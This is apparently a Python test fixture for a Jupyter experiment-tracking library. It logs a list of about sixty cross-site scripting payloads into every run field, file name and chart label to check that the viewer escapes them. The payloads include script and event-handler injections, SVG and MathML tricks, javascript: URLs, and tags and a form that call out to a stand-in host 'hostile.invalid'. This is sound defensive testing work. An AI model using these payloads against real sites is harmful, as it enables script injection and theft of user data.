"""A run in which every text there is tries to get out: names, columns, cells, labels, annotations, files, errors.

Read by the tests, and executed in the notebook's kernel as it stands.
"""

from __future__ import annotations

import tempfile
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd

import jupyter_tracking as tracking

if TYPE_CHECKING:
    from jupyter_tracking.record.run import Run
    from jupyter_tracking.run_view import RunView

FLAG = "top.jtFired=1"
AWAY = "http://hostile.invalid/"

HOSTILE = [
    f"<script>{FLAG}</script>",
    f"</script><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"</title><script>{FLAG}</script>",
    f"</style><script>{FLAG}</script>",
    f"</pre><script>{FLAG}</script>",
    f"</table><script>{FLAG}</script>",
    f"--><script>{FLAG}</script>",
    f"]]><script>{FLAG}</script>",
    f"<SCRIPT SRC={AWAY}x.js></SCRIPT>",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"<script/x>{FLAG}</script/x>",
    f"<script type=module>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f'"><img src=x onerror={FLAG}>',
    f"'><img src=x onerror={FLAG}>",
    f"`><img src=x onerror={FLAG}>",
    f'<img src="x" onerror="{FLAG}"//',
    f"<img src={AWAY}pixel.png>",
    f"<img/src=x/onerror={FLAG}>",
    f"<image href=x onerror={FLAG}>",
    f"<svg onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{FLAG}"><text y=9>click</text></a></svg>',
    f"<svg><style><img src=x onerror={FLAG}></style></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={FLAG}></style></mglyph></mtext></math>",
    f"<body onload={FLAG}>",
    f"<iframe src=javascript:{FLAG}></iframe>",
    f'<iframe srcdoc="<script>{FLAG}</script>"></iframe>',
    f"<iframe src={AWAY}frame></iframe>",
    f"<object data=javascript:{FLAG}></object>",
    f"<embed src=javascript:{FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<audio src=x onerror={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<select autofocus onfocus={FLAG}>",
    f"<marquee onstart={FLAG}>",
    f'<div style="animation:x 1s" onanimationstart={FLAG}>',
    f"<a href=javascript:{FLAG}>click</a>",
    f"[click](javascript:{FLAG})",
    f"![picture]({AWAY}markdown.png)",
    f"javascript:{FLAG}",
    f"data:text/html,<script>{FLAG}</script>",
    f"<meta http-equiv=refresh content=0;url={AWAY}refresh>",
    f"<meta http-equiv=refresh content=0;url=javascript:{FLAG}>",
    f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}sheet.css>",
    f"<style>@import url({AWAY}import.css);body{{display:none}}</style>",
    f"<form action={AWAY}form><input name=q value=secret><button autofocus>send</button></form><script>document.forms[0].submit()</script>",
    f"&lt;script&gt;{FLAG}&lt;/script&gt;",
    f"&#60;img src=x onerror={FLAG}&#62;",
    f"\\u003cscript\\u003e{FLAG}\\u003c/script\\u003e",
    f"${{{FLAG}}}{{{{constructor.constructor('{FLAG}')()}}}}",
    f"$\\href{{javascript:{FLAG}}}{{x}}$",
    f"\u202e>tpircs/<{FLAG}\u202c",
    f"\u200f\u2067<img src=x onerror={FLAG}>\u2069",
    "__proto__",
    f"constructor\ufeff<b onmouseover={FLAG}>",
]

NAMED = dict(zip(("text", "curve", "dataframe", "confusion", "chart", "html"), (HOSTILE[n] for n in (0, 14, 13, 21, 22, 4)), strict=True))


def make() -> RunView:
    """Log the strings into every slot, one after the other over the steps."""
    root = tempfile.mkdtemp()
    with tracking.init(
        name="".join(HOSTILE[:3]),
        description=HOSTILE[14],
        tags=HOSTILE[:20],
        root=root,
        track_code=False,
        track_env=False,
        track_logs=False,
    ) as run:
        run.log_inputs(**dict(zip(HOSTILE, reversed(HOSTILE), strict=True)))
        for name in HOSTILE:
            run.log_metric(name, 1.0, step=0)
        run.log_dataframe(_frame(), NAMED["dataframe"], step=0)
        for step, text in enumerate(HOSTILE):
            _log(run, step, text)
        folder = Path(tempfile.mkdtemp())
        for number, text in enumerate(HOSTILE[13:23]):
            file = folder / text.replace("/", "∕")[:200]
            file.write_text(f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{text}</svg>")
            run.log_artifact(str(file), name=f"{text}{number}", kind="file")
            run.log_image(str(file), "svg", step=number)
            run.log_model(str(file), "model", text, step=number)
        run.log_artifact_ref(f"javascript:{FLAG}", name="ref", skip_hash_calculation=True)
    # What is broken is told in words, with names and lines in them.
    view = tracking.open_run(run)
    curves = next((view.path / "events" / "curve").glob("*.plx"))
    with curves.open("a", encoding="utf-8") as file:
        file.write(f"{HOSTILE[0]}|{HOSTILE[1]}|{HOSTILE[13]}\n")
    next((view.path / "assets" / "dataframe").iterdir()).rename(view.path / f"{HOSTILE[13]}".replace("/", "∕"))
    return tracking.open_run(view.path)


def _frame() -> pd.DataFrame:
    return pd.DataFrame([HOSTILE[:40]] * 3, columns=HOSTILE[:40], index=pd.Index(HOSTILE[40:43], name=HOSTILE[14]))


def _log(run: Run, step: int, text: str) -> None:
    """Log one text as every kind of artifact that has room for one."""
    run.log_text(NAMED["text"], text, step=step)
    run.log_markdown("markdown", f"{text}\n\n# {text}\n\n- {text}\n\n| {text} |\n|---|\n| {text} |", step=step)
    run.log_html(NAMED["html"], text, step=step)
    run.log_curve(NAMED["curve"], [0, 1], [0, 1], annotation=text, step=step)
    run.log_confusion_matrix(NAMED["confusion"], [text, "b"], ["a", text], [[1, 2], [3, 4]], step=step)
    figure = {"data": [{"type": "bar", "name": text, "x": [text], "y": [1]}, {"y": [1, 2], "x": [text, "c"], "name": text}]}
    layout = {"title": {"text": text}, "xaxis": {"title": {"text": text}}}
    run.log_plotly_chart(NAMED["chart"], {**figure, "layout": layout}, step=step)
    run.log_plotly_chart("other", {"data": [{"type": "pie", "labels": [text], "values": [1]}], "layout": layout}, step=step)
    span = {
        "name": "span",
        "inputs": {text: text},
        "metadata": {"m": text},
        "children": [{"name": text, "metadata": {"note": text}}],
    }
    run.log_trace(span, step=step)
    run.log_dataframe(pd.DataFrame({text: [step]}), "columns", step=step)
